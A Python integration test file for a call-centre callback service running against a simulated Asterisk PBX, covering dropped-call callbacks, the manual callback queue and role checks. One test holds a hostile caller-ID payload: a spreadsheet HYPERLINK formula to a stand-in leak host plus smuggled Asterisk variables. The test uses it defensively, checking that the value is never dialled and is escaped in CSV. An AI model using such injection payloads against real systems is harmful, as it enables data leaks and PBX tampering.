"""Callbacks through the running service, the simulator over TCP and a real database: a
dropped call is called back exactly once (also across an AMI cut), its callback call links
back to it, and the queue of abandoned and missed calls is worked by people, never dialled
behind their backs. The desk's decisions one by one (busy agents, waiting queues, agents who
do not pick up, retries, a link down, a restart) are tests/desks/test_callback_desk.py's."""

from __future__ import annotations

import asyncio
import random
from collections.abc import AsyncIterator, Callable
from typing import Any

import pytest
import pytest_asyncio

from app.callbacks.rules import CALLBACK_FOR_TAG
from app.db.tables import Callback
from telephony.simulator.server import AmiServer
from telephony.simulator.traffic import Traffic
from tests.service.harness import Service, running_service

pytestmark = pytest.mark.asyncio

CUSTOMER = ("+15550001111", "Jane Customer")


@pytest_asyncio.fixture
async def traffic(pbx: AmiServer) -> AsyncIterator[Traffic]:
    traffic = Traffic(
        pbx,
        agents=("PJSIP/1001", "PJSIP/1002"),
        rng=random.Random(6),
        calls_per_minute=0,
        speed=4.0,
    )
    pbx.on_originate = traffic.answer_originate
    yield traffic
    await traffic.close()


def originates(pbx: AmiServer) -> list[dict[str, str]]:
    return [a for a in pbx.actions if a.get("Action", "").lower() == "originate"]


def variables(action: dict[str, str]) -> dict[str, str]:
    pairs = (item.partition("=") for item in action.get("Variable", "").split("\n") if item)
    return {name: value for name, _, value in pairs}


async def until(check: Callable[[], Any], limit: float, what: str) -> Any:
    """Poll ``check`` (sync or async) until it returns something truthy."""
    loop = asyncio.get_running_loop()
    deadline = loop.time() + limit
    while True:
        value = check()
        if asyncio.iscoroutine(value):
            value = await value
        if value:
            return value
        if loop.time() > deadline:
            raise AssertionError(f"waited {limit} s for {what}")
        await asyncio.sleep(0.05)


async def callbacks(
    service: Service, username: str = "supervisor", **params: Any
) -> list[dict[str, Any]]:
    reply = await service.get("/api/callbacks", username, status="all", **params)
    reply.raise_for_status()
    items: list[dict[str, Any]] = reply.json()["items"]
    return items


async def callback_with(service: Service, status: str) -> dict[str, Any] | None:
    found = [c for c in await callbacks(service) if c["status"] == status]
    return found[0] if found else None


async def at_least(service: Service, count: int) -> bool:
    return len(await callbacks(service)) >= count


async def drop_a_call(traffic: Traffic, agent: str = "PJSIP/1001") -> str:
    return await traffic.place("dropped_network_cause", customer=CUSTOMER, agents=[agent])


async def test_a_dropped_call_is_called_back_once_through_the_same_agent(
    database_url: str, pbx: AmiServer, traffic: Traffic
) -> None:
    async with running_service(database_url, pbx) as service:
        await pbx.wait_logged_in()
        async with service.websocket("agent1") as agent1:
            await agent1.next("snapshot")
            dropped = await drop_a_call(traffic)
            started = asyncio.get_running_loop().time()
            (originate,) = await pbx.wait_for_action("Originate", timeout=10)
            assert asyncio.get_running_loop().time() - started < 10
            assert originate["Channel"] == "PJSIP/1001"
            assert originate["Exten"] == CUSTOMER[0]
            assert originate["Context"] == "callassist-callback"
            assert variables(originate)[CALLBACK_FOR_TAG] == dropped
            # The agent hears of it: the cut call, then the callback ringing their phone.
            update = await agent1.next("callback.updated")
            assert update["callback"]["call_id"] == dropped

        reached = await until(lambda: callback_with(service, "reached"), 30, "a reached callback")
        assert len(originates(pbx)) == 1
        (attempt,) = reached["attempts_list"]
        assert attempt["channel_id"] == originate["ChannelId"]
        assert attempt["result"] == "reached"
        assert attempt["agent"] == "PJSIP/1001"

        # One story in the call record: the dropped call shows its callback and the call
        # that answered it, and that call names the dropped one (from its own events).
        await service.settled()
        calls = {c["call_id"]: c for c in await service.calls()}
        assert calls[originate["ChannelId"]]["callback_for"] == dropped
        detail = (await service.get(f"/api/calls/{calls[dropped]['id']}", "qa")).json()
        assert detail["callbacks"][0]["status"] == "reached"
        assert [c["call_id"] for c in detail["callback_calls"]] == [originate["ChannelId"]]
        metrics = (await service.client.get("/metrics")).text
        assert 'callassist_callback_attempts_total{pbx="default",result="reached"} 1.0' in metrics
        assert 'callassist_callback_originates_total{pbx="default"} 1.0' in metrics


async def test_a_callbacks_pop_names_the_customer_from_the_first_ring(
    database_url: str, pbx: AmiServer, traffic: Traffic
) -> None:
    # The PBX rings the agent first and dials the customer only once the agent answers: the
    # pop must not say "withheld" to an agent about to call a customer back.
    async with running_service(database_url, pbx) as service:
        await pbx.wait_logged_in()
        async with service.websocket("agent1") as agent1:
            await agent1.next("snapshot")
            await drop_a_call(traffic)
            (originate,) = await pbx.wait_for_action("Originate", timeout=10)
            ringing = await agent1.next("call.ringing")
            while ringing["call_id"] != originate["ChannelId"]:
                ringing = await agent1.next("call.ringing")
            answered = await agent1.next("call.answered")

    assert (ringing["customer"], ringing["call"]["customer"]) == (CUSTOMER[0], CUSTOMER[0])
    assert answered["call_id"] == originate["ChannelId"]
    assert (answered["customer"], answered["call"]["customer"]) == (CUSTOMER[0], CUSTOMER[0])


async def test_an_originate_cut_off_on_its_way_is_found_live_and_not_sent_again(
    database_url: str, pbx: AmiServer, traffic: Traffic
) -> None:
    async def cut_then_place(action: dict[str, str]) -> None:
        await pbx.drop_sessions()  # the PBX took it; its answer never reached us
        await traffic.answer_originate(action)

    pbx.answer_originates = False
    pbx.on_originate = cut_then_place
    async with running_service(database_url, pbx) as service:
        await pbx.wait_logged_in()
        await drop_a_call(traffic)
        await pbx.wait_for_action("Originate", timeout=10)
        pbx.answer_originates = True
        await pbx.wait_logged_in(2, timeout=15)
        reached = await until(lambda: callback_with(service, "reached"), 40, "a reached callback")
        assert len(originates(pbx)) == 1
        assert reached["attempts_list"][0]["result"] == "reached"


async def test_abandoned_and_missed_calls_wait_in_the_callback_queue_for_a_person(
    database_url: str, pbx: AmiServer, traffic: Traffic
) -> None:
    async with running_service(database_url, pbx, short_abandon_seconds=0.5) as service:
        await pbx.wait_logged_in()
        missed = await traffic.place(
            "agent_busy", customer=("+15550002222", "Max"), agents=["PJSIP/1001"]
        )
        abandoned = await traffic.place(
            "missed_customer_cancels", customer=("+15550003333", "Ann"), agents=["PJSIP/1001"]
        )
        await until(lambda: at_least(service, 2), 10, "two queued callbacks")
        await asyncio.sleep(1.0)
        assert originates(pbx) == []  # never dialled by itself
        by_call = {c["call_id"]: c for c in await callbacks(service)}
        assert by_call[abandoned]["reason"] == "abandoned"
        queued = by_call[missed]
        assert (queued["status"], queued["reason"]) == ("queued", "missed")

        loop = (await service.get("/api/callbacks/loop", "supervisor")).json()
        (item,) = [i for i in loop["items"] if i["call"]["call_id"] == missed]
        assert (item["called_back"], item["reached"]) == (False, None)

        # An agent takes it: their own phone rings first, then the customer's.
        token = await service.login("agent2")
        headers = {"Authorization": f"Bearer {token}"}
        reply = await service.client.post(f"/api/callbacks/{queued['id']}/dial", headers=headers)
        assert reply.status_code == 200, reply.text
        (originate,) = await pbx.wait_for_action("Originate", timeout=5)
        assert (originate["Channel"], originate["Exten"]) == ("PJSIP/1002", "+15550002222")
        again = await service.client.post(f"/api/callbacks/{queued['id']}/dial", headers=headers)
        assert again.status_code == 409  # one callback to a number at a time

        await until(lambda: callback_with(service, "reached"), 30, "the customer reached")
        await service.settled()
        loop = (await service.get("/api/callbacks/loop", "supervisor")).json()
        (item,) = [i for i in loop["items"] if i["call"]["call_id"] == missed]
        assert (item["called_back"], item["reached"]) == (True, True)
        assert loop["summary"]["reached"] >= 1


async def test_the_callback_list_needs_a_login_and_the_right_role_to_act(
    database_url: str, pbx: AmiServer
) -> None:
    async with running_service(database_url, pbx) as service:
        assert (await service.client.get("/api/callbacks")).status_code == 401
        token = await service.login("qa")
        headers = {"Authorization": f"Bearer {token}"}
        reply = await service.client.post("/api/callbacks/1/dial", headers=headers)
        assert reply.status_code == 403
        token = await service.login("supervisor")
        headers = {"Authorization": f"Bearer {token}"}
        reply = await service.client.post(
            "/api/callbacks/99/close", json={"result": "maybe"}, headers=headers
        )
        assert reply.status_code == 422
        reply = await service.client.post(
            "/api/callbacks/99/close", json={"result": "closed"}, headers=headers
        )
        assert reply.status_code == 404


HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak","Click me"),CALLASSIST_CALLBACK_FOR=1111.1,'
    "__TRUNK=x,DB(owned/by-caller)=1"
)


async def test_a_dropped_call_from_a_hostile_caller_id_is_recorded_but_never_dialled(
    database_url: str, pbx: AmiServer, traffic: Traffic
) -> None:
    # A caller sets their own caller ID: to Asterisk, commas split an Originate's Variable
    # values and a name ending in ")" writes a dialplan function; to Excel, "=" is a formula.
    async with running_service(database_url, pbx) as service:
        await pbx.wait_logged_in()
        dropped = await traffic.place(
            "dropped_network_cause", customer=(HOSTILE, "Mallory"), agents=["PJSIP/1001"]
        )
        queued = await until(lambda: callback_with(service, "queued"), 15, "a queued callback")
        (call,) = [c for c in await service.calls() if c["call_id"] == dropped]
        token = await service.login("qa")
        csv = await service.client.get(
            "/api/calls.csv", headers={"Authorization": f"Bearer {token}"}
        )
        await asyncio.sleep(1.0)  # the desk's next rounds: still nothing dialled

    assert (call["outcome"], call["customer"]) == ("dropped", HOSTILE), "the raw caller ID is kept"
    assert queued["call_id"] == dropped and queued["auto"] is False
    assert queued["waiting_for"].startswith("the caller's number cannot be dialled")
    assert not any("HYPERLINK" in str(action) for action in pbx.actions)
    assert originates(pbx) == []
    assert "'=HYPERLINK(" in csv.text and ',"=HYPERLINK(' not in csv.text


async def test_an_agent_sees_and_works_only_their_own_callbacks_and_the_unclaimed_queue(
    database_url: str, pbx: AmiServer
) -> None:
    rows = {
        "mine": Callback(
            customer="+15550000001",
            reason="dropped",
            status="reached",
            agent="PJSIP/1001",
            created_at=1.0,
            updated_at=1.0,
        ),
        "theirs": Callback(
            customer="+15550000002",
            reason="dropped",
            status="queued",
            agent="PJSIP/1002",
            created_at=2.0,
            updated_at=2.0,
        ),
        "theirs_done": Callback(
            customer="+15550000003",
            reason="missed",
            status="closed",
            created_at=3.0,
            updated_at=3.0,
        ),
        "queue": Callback(
            customer="+15550000004",
            reason="abandoned",
            status="queued",
            created_at=4.0,
            updated_at=4.0,
        ),
    }
    async with running_service(database_url, pbx) as service:
        with service.services.database.session() as session:
            session.add_all(rows.values())
            session.commit()
            ids = {name: row.id for name, row in rows.items()}
        seen = {c["id"] for c in await callbacks(service, "agent1")}
        everyone = {c["id"] for c in await callbacks(service)}
        closing = await service.post(
            f"/api/callbacks/{ids['theirs']}/close", "agent1", {"result": "closed"}
        )
        loop = await service.get("/api/callbacks/loop", "agent1")

    assert seen == {ids["mine"], ids["queue"]}
    assert everyone == set(ids.values())
    assert closing.status_code == 404, "another agent's callback does not exist for them"
    assert loop.status_code == 403


async def test_a_callback_asked_for_without_a_call_waits_on_a_configured_pbx_only(
    database_url: str, pbx: AmiServer
) -> None:
    async with running_service(database_url, pbx) as service:
        asked = {"customer": "+15550002222", "note": "wrote in: call me after 5"}
        unknown = await service.post("/api/callbacks", "supervisor", {**asked, "pbx": "south"})
        assert unknown.status_code == 422
        assert unknown.json()["detail"] == "no PBX is named 'south': the PBXs are default"
        assert await callbacks(service) == []

        made = await service.post("/api/callbacks", "supervisor", asked)
        assert made.status_code == 201, made.text
        callback = made.json()
        assert (callback["pbx"], callback["reason"], callback["status"]) == (
            "default",
            "requested",
            "queued",
        )
        assert (callback["auto"], callback["note"]) == (False, asked["note"])
        again = await service.post("/api/callbacks", "agent1", {**asked, "pbx": "default"})
        assert again.status_code == 409  # once per number on a PBX
        (listed,) = await callbacks(service)
        assert (listed["id"], listed["pbx"]) == (callback["id"], "default")
        mine = await service.post("/api/callbacks", "agent1", {"customer": "+15550003333"})
        assert mine.json()["agent"] == "PJSIP/1001"  # an agent's own phone rings first
